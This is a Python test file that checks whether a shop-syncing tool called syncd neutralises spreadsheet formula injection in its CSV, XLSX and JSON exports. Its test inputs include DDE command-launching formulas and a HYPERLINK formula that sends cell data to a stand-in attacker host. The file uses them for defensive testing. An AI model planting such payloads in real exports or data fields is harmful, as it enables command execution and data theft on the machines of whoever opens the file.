"""Formula injection: what a store or supplier wrote runs in no spreadsheet that opens an export."""

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest

from syncd.reports.csvtext import TRIGGERS
from tests.reports.test_tables import parsed

CALLS = (
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
)
"""Ways to make a spreadsheet run something, full-width ones included; a feed's cell holds no TAB, CR or NUL at its rim."""


@pytest.fixture(params=CALLS)
def told(request, desk) -> str:
    """A shop in which whoever can write anything wrote a formula: the merchant, the depot, and the person at syncd."""
    call = request.param
    desk.env["SYNCD_ACTOR"] = call
    desk.configure(('lines = { sku_prefix = "DP-" }', 'lines = { vendor = "Depot" }'))
    order = desk.store.world.create_order(_line(call), tags=[call])
    desk.depot.put(order.name, sku=call, quantity="1")
    desk.depot.ship(order.name, number=f"{call}1234567890", sku=call, carrier=call, status=call)
    desk.order("CJ-1")
    left = desk.store.world.create_order(_line(call), tags=[call])
    desk.depot.put(left.name, sku=call, quantity="1", status=call)
    desk.clock.advance(timedelta(days=9))
    desk.syncd("reconcile", "--yes")
    desk.syncd("fulfill", "#1002", "--tracking", f"{call}12345", "--carrier", call, "--note", call, "--yes")
    return call


def _line(sku: str):
    from adapters.sandbox.shopify import NewLine

    return NewLine(sku=sku, quantity=1, vendor="Depot", title=sku)


def test_no_export_runs_anything(desk, told):
    for command in ("drift", "history"):
        text = desk.syncd(command, "--format", "csv").out
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) > 1
        for cell in (cell for row in rows for cell in row):
            assert cell[:1] not in TRIGGERS
        for separator in ";\t":
            assert not [cell for row in parsed(text, separator=separator) for cell in row if cell[:1] in "=@" and cell]
        desk.syncd(command, "--format", "xlsx", "--output", f"{command}.xlsx")
        with zipfile.ZipFile(desk.folder / f"{command}.xlsx") as book:
            sheets = b"".join(book.read(name) for name in book.namelist() if "worksheets" in name)
        assert b"<f>" not in sheets
        assert b"<f " not in sheets
        assert b"<hyperlink" not in sheets


def test_json_keeps_the_text_as_it_was_written(desk, told):
    """It is for programs: they get what there is, and nothing that was added for spreadsheets."""
    events = json.loads(desk.syncd("history", "--format", "json").out)["events"]
    assert told in {event["actor"] for event in events}
    assert f"'{told}" not in json.dumps(events, ensure_ascii=False)
